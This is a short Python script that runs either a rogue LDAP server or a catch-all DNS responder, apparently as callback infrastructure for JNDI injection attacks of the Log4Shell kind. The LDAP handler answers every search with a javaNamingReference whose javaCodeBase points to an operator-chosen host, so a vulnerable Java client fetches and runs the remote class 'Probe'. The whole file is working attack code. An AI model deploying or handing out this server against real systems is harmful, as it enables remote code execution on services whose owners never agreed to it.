"""The far end of a call-back, as it is needed here: callback.py ldap ADDRESS PORT CODEBASE answers
each search with an entry that refers to the class Probe there (RFC 4511, RFC 2713); callback.py dns
ADDRESS PORT HOST has the address HOST for every name beneath "example" (RFC 1035).
"""

import ipaddress
import socket
import socketserver
import struct
import sys

SEARCH_RESULT_ENTRY, SEARCH_RESULT_DONE, BIND_RESPONSE = 0x64, 0x65, 0x61
BIND_REQUEST, UNBIND_REQUEST, SEARCH_REQUEST = 0x60, 0x42, 0x63
TYPE_A, IN, TTL = 1, 1, 60


def ber(tag, *parts):
    """One element; texts are octet strings."""
    body = b"".join(ber(0x04, p.encode()) if isinstance(p, str) else p for p in parts)
    size = len(body)
    length = bytes([size]) if size < 128 else b"\x82" + struct.pack(">H", size)
    return bytes([tag]) + length + body


def read_element(file):
    """The tag and contents of the next element, or None."""
    start = file.read(2)
    if len(start) < 2:
        return None
    size = start[1]
    if size & 0x80:
        size = int.from_bytes(file.read(size & 0x7f), "big")
    return start[0], file.read(size)


def split(body):
    """The elements in the contents of one whose lengths are short."""
    while body:
        size, at = body[1], 2
        if size & 0x80:
            at += size & 0x7f
            size = int.from_bytes(body[2:at], "big")
        yield body[0], body[at:at + size]
        body = body[at + size:]


def attribute(name, *values):
    return ber(0x30, name, ber(0x31, *values))


class Ldap(socketserver.StreamRequestHandler):
    """Anybody may bind; every search finds one entry."""

    def say(self, number, operation):
        self.wfile.write(ber(0x30, ber(0x02, number), operation))

    def done(self, number, tag):
        self.say(number, ber(tag, ber(0x0a, b"\0"), "", ""))

    def handle(self):
        while message := read_element(self.rfile):
            (_, number), (tag, request), *_ = split(message[1])
            if tag == UNBIND_REQUEST:
                return
            if tag == BIND_REQUEST:
                self.done(number, BIND_RESPONSE)
            elif tag == SEARCH_REQUEST:
                base = next(split(request))[1].decode()
                self.say(number, ber(SEARCH_RESULT_ENTRY, base, ber(
                    0x30, attribute("objectClass", "javaNamingReference"),
                    attribute("javaClassName", "Probe"), attribute("javaFactory", "Probe"),
                    attribute("javaCodeBase", self.server.codebase))))
                self.done(number, SEARCH_RESULT_DONE)


class Server(socketserver.ThreadingTCPServer):
    allow_reuse_address = True
    daemon_threads = True


def serve_ldap(address, port, codebase):
    server = Server((address, port), Ldap)
    server.codebase = codebase
    server.serve_forever()


def serve_dns(address, port, host):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
        server.bind((address, port))
        while True:
            query, client = server.recvfrom(4096)
            at = 12
            while query[at]:
                at += query[at] + 1
            question = query[12:at + 5]
            wanted = struct.unpack(">H", query[at + 1:at + 3])[0] == TYPE_A
            answer = b"\xc0\x0c" + struct.pack(">HHIH", TYPE_A, IN, TTL, 4) + \
                ipaddress.ip_address(host).packed if wanted else b""
            server.sendto(query[:2] + struct.pack(">HHHHH", 0x8180, 1, 1 if wanted else 0, 0, 0) +
                          question + answer, client)


{"ldap": serve_ldap, "dns": serve_dns}[sys.argv[1]](sys.argv[2], int(sys.argv[3]), sys.argv[4])
